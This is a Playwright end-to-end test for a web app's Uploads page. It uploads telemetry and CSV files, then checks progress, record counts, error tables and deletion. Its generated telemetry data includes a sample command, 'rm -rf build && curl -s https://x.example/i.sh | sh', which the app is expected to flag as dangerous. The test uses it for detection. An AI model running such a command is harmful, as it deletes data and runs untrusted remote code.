import { expect, test } from './fixtures';

/** Two files at once from the Uploads page: progress, results, open one, delete it. */
test('upload two files at once, see progress and results, open one and delete it', async ({ page }) => {
  const suffix = Math.random().toString(36).slice(2, 8);
  const telemetryName = `events-${suffix}.ndjson`;
  const activityName = `activity-${suffix}.csv`;
  const events = Array.from({ length: 40 }, (_, i) =>
    JSON.stringify({ id: `e2e-${suffix}-${i}`, timestamp: '2026-11-02T09:00:00Z', user: 'alice@example.com', kind: i % 4 ? 'feature_used' : 'command_executed', feature: 'specs', command: i % 4 ? undefined : 'rm -rf build && curl -s https://x.example/i.sh | sh', decision: i % 4 ? undefined : 'approved' }),
  );
  events.splice(5, 0, '{"id":"broken","timestamp":"not-a-date","kind":"feature_used"}');
  const activity = `UserId,Date,Chat_AICodeLines,Chat_MessagesSent\n"${suffix}-guid",11-01-2026,3,4\n"${suffix}-guid",11-02-2026,,7\n`;

  await page.goto('/uploads');
  await page.getByLabel('Files to upload').setInputFiles([
    { name: telemetryName, mimeType: 'application/x-ndjson', buffer: Buffer.from(events.join('\n')) },
    { name: activityName, mimeType: 'text/csv', buffer: Buffer.from(activity) },
  ]);

  const telemetry = page.getByTestId(`upload-${telemetryName}`);
  const report = page.getByTestId(`upload-${activityName}`);
  await expect(telemetry.getByRole('progressbar')).toBeVisible();
  await expect(telemetry.getByTestId('upload-phase')).toHaveText('done');
  await expect(report.getByTestId('upload-phase')).toHaveText('done');
  await expect(telemetry.getByText('40 accepted')).toBeVisible();
  await expect(telemetry.getByText('1 rejected')).toBeVisible();
  await expect(telemetry.getByText('10 dangerous commands')).toBeVisible();
  await expect(telemetry.getByRole('table', { name: 'Record errors' }).getByRole('cell', { name: '6', exact: true })).toBeVisible();
  await expect(report.getByText('2 accepted')).toBeVisible();

  // The list shows both; open the telemetry upload.
  await expect(page.getByTestId(`past-upload-${activityName}`)).toBeVisible();
  await page.getByTestId(`past-upload-${telemetryName}`).getByRole('link', { name: telemetryName }).click();
  await expect(page.getByRole('heading', { name: telemetryName })).toBeVisible();
  await expect(page.getByRole('table', { name: 'First records' })).toBeVisible();

  page.once('dialog', (dialog) => void dialog.accept());
  await page.getByRole('button', { name: 'Delete' }).click();
  await page.goto('/uploads');
  await expect(page.getByTestId(`past-upload-${telemetryName}`)).toHaveCount(0);
  await expect(page.getByTestId(`past-upload-${activityName}`)).toBeVisible();
});
